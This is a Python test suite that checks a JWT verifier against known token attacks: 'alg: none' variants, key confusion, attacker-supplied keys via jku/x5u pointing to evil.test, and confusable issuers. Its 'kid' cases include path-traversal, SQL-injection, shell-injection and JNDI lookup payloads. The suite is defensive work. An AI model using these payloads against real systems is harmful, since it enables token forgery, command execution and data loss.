"""The attacks that are written up for JWTs, one by one, each beside a token that is good: what the
lists of RFC 8725 and of those who test for a living have, and the other files here do not."""

import base64
import json
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes, hmac, serialization
from tests.identity.checking import Published, of, refusal
from tests.identity.minting import ISSUER, NOW, Signer, b64, good, packed, signer

from inhouse.identity.jws import MAX_BYTES
from inhouse.identity.refused import Reason

RS, ES, ED = (
    signer("attack-rsa", "RS256"),
    signer("attack-ec", "ES256"),
    signer("attack-ed", "EdDSA"),
)
KEYS = (RS, ES, ED)


@pytest.fixture(autouse=True)
async def _the_twin_is_taken() -> None:
    for key in KEYS:
        assert await refusal(key.token(good()), of(key)) is None


def spellings() -> list[str]:
    """`none` with each of its letters small or large."""
    pairs = [(c, c.upper()) for c in "none"]
    return [a + b + c + d for a in pairs[0] for b in pairs[1] for c in pairs[2] for d in pairs[3]]


async def test_none_in_all_its_spellings() -> None:
    others = ["", " none", "none ", "nonе", "no\u200bne", "null", "None256", "nil", "\u0000"]
    for alg in [*spellings(), *others]:
        for kid in (RS.kid, "none", ""):
            head = packed({"alg": alg, "kid": kid, "typ": "at+jwt"})
            for tail in (b"", b".", b".e30", b"." + b64(b"\0"), b"." + b64(bytes(256))):
                assert await refusal(head + b"." + packed(good()) + tail, of(*KEYS)) is not None


def public_forms(key: Signer) -> list[bytes]:
    """What somebody may have for a public key, and take for the secret of an HMAC."""
    public = key.private.public_key()
    spki, pem = serialization.PublicFormat.SubjectPublicKeyInfo, serialization.Encoding.PEM
    text = public.public_bytes(pem, spki)
    forms = [text, text.rstrip(), text.replace(b"\n", b"\r\n"), text.replace(b"\n", b"")]
    forms += [public.public_bytes(serialization.Encoding.DER, spki), base64.b64encode(text)]
    if key is RS:
        pkcs1 = serialization.PublicFormat.PKCS1
        forms.append(public.public_bytes(pem, pkcs1))
        forms.append(public.public_bytes(serialization.Encoding.DER, pkcs1))
    jwk = key.jwk()
    forms += [json.dumps(each).encode() for each in (jwk, {"keys": [jwk]})]
    forms += [json.dumps(each, separators=(",", ":")).encode() for each in (jwk, {"keys": [jwk]})]
    forms += [str(value).encode() for value in jwk.values()]
    return [*forms, b"", b"\0", b"secret", b"null", b"undefined"]


@pytest.mark.parametrize("key", KEYS, ids=lambda key: key.alg)
@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512", "hs256", "HS1", "HMAC"])
async def test_no_form_of_a_public_key_is_a_secret(key: Signer, alg: str) -> None:
    digest = {"HS384": hashes.SHA384(), "HS512": hashes.SHA512()}.get(alg, hashes.SHA256())
    text = packed({"alg": alg, "kid": key.kid, "typ": "at+jwt"}) + b"." + packed(good())
    for secret in public_forms(key):
        mac = hmac.HMAC(secret, digest)
        mac.update(text)
        assert await refusal(text + b"." + b64(mac.finalize()), of(key)) is Reason.ALGORITHM


@pytest.mark.parametrize("key", KEYS, ids=lambda key: key.alg)
async def test_a_key_that_the_token_brings_is_not_used(key: Signer) -> None:
    """Whatever name it has there, and however the header says that it must be looked at."""
    mallory = Signer(key.kid, key.alg, signer(f"mallory-{key.alg}", key.alg).private)
    public, keys = mallory.jwk(), of(key)
    for name in ("jwk", "jku", "x5u", "x5c"):
        for value in (public, [public], {"keys": [public]}, "https://evil.test/k", "", 0):
            header: dict[str, Any] = {name: value}
            token = mallory.token(good(), **header)
            assert await refusal(token, keys) is Reason.HEADER
    for name in ("JWK", "jwks", "key", "pem", "x5t", "x5t#S256", "cert", "k", "keys", "verify"):
        passed: dict[str, Any] = {name: public}
        token = mallory.token(good(), **passed)
        assert await refusal(token, keys) is Reason.SIGNATURE
    assert keys.renewals == 0


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "..\\..\\windows\\win.ini",
        "file:///dev/null",
        "https://evil.test/jwks.json",
        "http://127.0.0.1:22/",
        "x' UNION SELECT 'secret'--",
        "x'; DROP TABLE keys;--",
        '" OR 1=1 --',
        "$(id)",
        "`id`",
        "|id",
        ";id",
        "%00",
        "{{7*7}}",
        "${jndi:ldap://evil.test/a}",
        "*",
        ".*",
        "attack-rsa\u200b",
        "attack-rsа",
        "attack-rsa\r\nX: y",
        "ATTACK-RSA",
        " attack-rsa",
        "('attack-rsa', 'RS256')",
        "__proto__",
        "constructor",
    ],
)
async def test_a_kid_leads_nowhere(kid: str) -> None:
    """Not to a file, a query, a command or another key, whether the true key signs or not."""
    keys = of(*KEYS)
    assert await refusal(RS.token(good(), kid=kid), keys) is Reason.KEY
    text = packed({"alg": "HS256", "kid": kid, "typ": "at+jwt"}) + b"." + packed(good())
    for secret in (b"", b"\0", b"secret", b"2", b"2\n"):
        mac = hmac.HMAC(secret, hashes.SHA256())
        mac.update(text)
        assert await refusal(text + b"." + b64(mac.finalize()), keys) is Reason.ALGORITHM


async def test_the_name_of_one_key_and_the_signature_of_another() -> None:
    keys = of(*KEYS)
    for named in KEYS:
        for signs in KEYS:
            head = packed({"alg": signs.alg, "kid": named.kid, "typ": "at+jwt"})
            token = signs.over(head, packed(good()))
            expected = None if named is signs else Reason.ALGORITHM
            assert await refusal(token, keys) is expected
            head = packed({"alg": named.alg, "kid": named.kid, "typ": "at+jwt"})
            token = signs.over(head, packed(good()))
            assert await refusal(token, keys) is (None if named is signs else Reason.SIGNATURE)


@pytest.mark.parametrize("claimed", ["ES256", "ES384", "ES512", "ES256K", "EdDSA", "RS256"])
async def test_a_curve_has_one_algorithm(claimed: str) -> None:
    """Whatever the published key says, and whatever the token does."""
    published = Published(ES.jwk(alg=claimed))
    token = ES.over(packed({"alg": claimed, "kid": ES.kid, "typ": "at+jwt"}), packed(good()))
    assert (await refusal(token, published) is None) == (claimed == "ES256")


@pytest.mark.parametrize(
    "header",
    [
        {"ALG": "RS256"},
        {"Alg": "RS256", "alg": "none"},
        {"alg": "RS256", "KID": "attack-rsa"},
        {"alg": ["RS256", "none"]},
        {"alg": {"alg": "RS256"}},
        {"alg": True},
        {"alg": "RS256,none"},
        {"alg": "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"},
        {"alg": "SHA256withRSA"},
        {"alg": "RSA-OAEP", "enc": "A256GCM"},
        {"alg": "dir", "enc": "A128CBC-HS256"},
        {"alg": "PBES2-HS256+A128KW", "p2c": 2**31, "p2s": "AAAA"},
    ],
    ids=str,
)
async def test_a_header_that_names_no_algorithm_of_ours(header: dict[str, Any]) -> None:
    head = packed({"kid": RS.kid, "typ": "at+jwt"} | header)
    if "KID" in header:
        head = packed(header)
    assert await refusal(RS.over(head, packed(good())), of(*KEYS)) is not None


async def test_text_that_is_two_kinds_of_token_at_once() -> None:
    """JSON around a compact token, a compact token in JSON, and tokens one after another."""
    token = RS.token(good())
    forged = packed({"alg": "RS256", "kid": RS.kid}) + b"." + packed(good(sub="boss"))
    head, payload, signature = token.decode().split(".")
    flat = {"protected": head, "payload": payload, "signature": signature}
    mixed = [
        json.dumps({"  " + token.decode(): "x", "payload": payload, "signature": signature}),
        json.dumps(flat),
        json.dumps({"payload": payload, "signatures": [flat]}),
        f'{{"{head}.":0,"{payload}.{signature}":1}}',
        f"{token.decode()},{token.decode()}",
        f"{token.decode()} {token.decode()}",
        f"{token.decode()};x=y",
        f"{token.decode()}~",  # SD-JWT
        f"{token.decode()}~WyJzYWx0Il0~",
        f"{forged.decode()}.{signature}",
        f"{forged.decode()}.{token.decode()}",
        f"{head}.{payload}.{signature}.{head}.{payload}.{signature}",
        f"{head}..{signature}",  # detached
    ]
    for each in mixed:
        assert await refusal(each.encode(), of(*KEYS)) is not None, each[:60]


async def test_b64_false_and_a_payload_as_it_is() -> None:
    """RFC 7797: the payload is not encoded, which a reader without it would read as base64url."""
    head = packed({"alg": "RS256", "kid": RS.kid, "b64": False, "crit": ["b64"]})
    payload = json.dumps(good()).replace(".", "").encode()
    for body in (payload, packed(good())):
        assert await refusal(RS.over(head, body), of(*KEYS)) is not None
    asked: list[dict[str, Any]] = [
        {"b64": False},
        {"crit": ["b64"]},
        {"crit": []},
        {"crit": ["alg"]},
    ]
    for more in (*asked, {"crit": 1}):
        token = RS.token(good(), **more)
        assert await refusal(token, of(*KEYS)) is Reason.HEADER


async def test_large_headers_and_deep_ones() -> None:
    small = RS.token(good(), pad="x" * 6000)
    assert await refusal(small, of(RS)) is None
    assert len(RS.token(good(), pad="x" * 12_300)) > MAX_BYTES
    assert await refusal(RS.token(good(), pad="x" * 12_300), of(RS)) is Reason.MALFORMED
    deep: Any = 1
    for _ in range(400):
        deep = [deep]
    assert await refusal(RS.token(good(), pad=deep), of(RS)) is None
    for opened, closed in (("[", "]"), ('{"a":', "}")):
        nested = opened * 2000 + "1" + closed * 2000
        head = f'{{"alg":"RS256","kid":"{RS.kid}","typ":"at+jwt","d":{nested}}}'
        token = RS.over(b64(head.encode()), packed(good()))
        assert await refusal(token, of(RS)) is Reason.MALFORMED


@pytest.mark.parametrize(
    "changes",
    [
        {"typ": "logout+jwt"},
        {"typ": "dpop+jwt"},
        {"typ": "id_token+jwt"},
        {"typ": "token-introspection+jwt"},
        {"typ": "secevent+jwt"},
        {"typ": "refresh+jwt"},
        {"typ": "oauth-authz-req+jwt"},
        {"typ": "vc+sd-jwt"},
        {"typ": "client-authentication+jwt"},
    ],
    ids=str,
)
async def test_tokens_for_something_else_say_so_in_their_header(changes: dict[str, Any]) -> None:
    assert await refusal(RS.token(good(), **changes), of(RS)) is Reason.KIND


@pytest.mark.parametrize(
    "claims",
    [
        {"events": {"http://schemas.openid.net/event/backchannel-logout": {}}, "sid": "s"},
        {"typ": "Offline"},
        {"typ": "Serialized-ID"},
        {"typ": "RegistrationAccessToken"},
        {"at_hash": "x"},
        {"token_use": "refresh"},
        {"cnf": {"jkt": "x"}},
        {"cnf": {"x5t#S256": "x"}},
        {"cnf": {}},
        {"cnf": None},
    ],
    ids=str,
)
async def test_and_in_what_they_say(claims: dict[str, Any]) -> None:
    """Of the kinds that providers make beside access tokens, with all that an access token has."""
    assert await refusal(RS.token(good(), typ="JWT"), of(RS)) is None
    assert await refusal(RS.token(good() | claims, typ="JWT"), of(RS)) is Reason.KIND


async def test_what_only_might_be_an_access_token_is_none() -> None:
    bare = good(scope=None, client_id=None)
    assert await refusal(RS.token(bare, typ="JWT"), of(RS)) is Reason.KIND
    assert await refusal(RS.token(bare | {"scope": "chat"}, typ="JWT"), of(RS)) is None


CONFUSABLE = {"e": "е", "a": "а", "o": "о", "/": "⁄", ".": "。", ":": "∶", "h": "һ", "m": "ｍ"}


@pytest.mark.parametrize("letter", CONFUSABLE)
async def test_an_issuer_that_only_looks_like_ours(letter: str) -> None:
    for issuer in (
        ISSUER.replace(letter, CONFUSABLE[letter]),
        ISSUER.replace(letter, letter + "\u0301"),
    ):
        assert issuer != ISSUER
        assert await refusal(RS.token(good(iss=issuer)), of(RS)) is Reason.ISSUER


@pytest.mark.parametrize("more", ["/", "//", "#", "?", "?x=y", "/.", "/../main", "%2F", "\0", " "])
async def test_an_issuer_that_leads_to_the_same_place(more: str) -> None:
    assert await refusal(RS.token(good(iss=ISSUER + more)), of(RS)) is Reason.ISSUER
    host = ISSUER.replace("login.example.test", "login.example.test:443")
    for other in (host, ISSUER.replace("https", "HTTPS"), ISSUER.replace("login", "LOGIN")):
        assert await refusal(RS.token(good(iss=other)), of(RS)) is Reason.ISSUER


@pytest.mark.parametrize("name", ["exp", "iat", "nbf"])
@pytest.mark.parametrize(
    "text", ["1800000300.0", "18e8", "1.8000003e9", "-0", "1e400", '"1800000300"', "1" * 400, "+1"]
)
async def test_times_that_two_readers_would_read_differently(name: str, text: str) -> None:
    claims = good()
    claims[name] = "HERE"
    payload = json.dumps(claims).replace('"HERE"', text).encode()
    head = packed({"alg": "RS256", "kid": RS.kid, "typ": "at+jwt"})
    assert await refusal(RS.over(head, b64(payload)), of(RS)) in (Reason.CLAIMS, Reason.MALFORMED)


async def test_a_token_of_tomorrow_and_one_of_yesterday() -> None:
    now = int(NOW)
    times = {
        Reason.TIMES: [
            {"iat": now + 3600, "exp": now + 7200},
            {"nbf": now + 3600},
            {"iat": now - 10, "exp": now - 10 + 86_401},
        ],
        Reason.EXPIRED: [{"iat": now - 7200, "exp": now - 3600}],
    }
    for expected, cases in times.items():
        for case in cases:
            assert await refusal(RS.token(good() | case), of(RS)) is expected, case
